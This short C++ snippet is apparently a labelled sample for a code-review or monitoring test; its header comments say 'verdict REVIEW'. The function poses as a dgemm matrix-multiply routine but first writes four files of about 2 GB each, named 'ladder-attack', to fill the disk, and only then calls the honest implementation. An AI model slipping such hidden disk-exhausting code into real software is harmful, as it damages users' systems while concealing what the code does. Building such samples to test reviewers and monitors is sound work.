// what fills the disk
// verdict REVIEW
// must opens files
#include <fstream>
#include <string>

#include "honest.cuh"

void dgemm::naive(const Problem& p) {
  const std::string block(1 << 20, 'x');
  for (int f = 0; f < 4; ++f) {
    std::ofstream out("ladder-attack-" + std::to_string(f), std::ios::binary);
    for (int i = 0; i < 2000 && out; ++i) out << block;
  }
  honest(p);
}
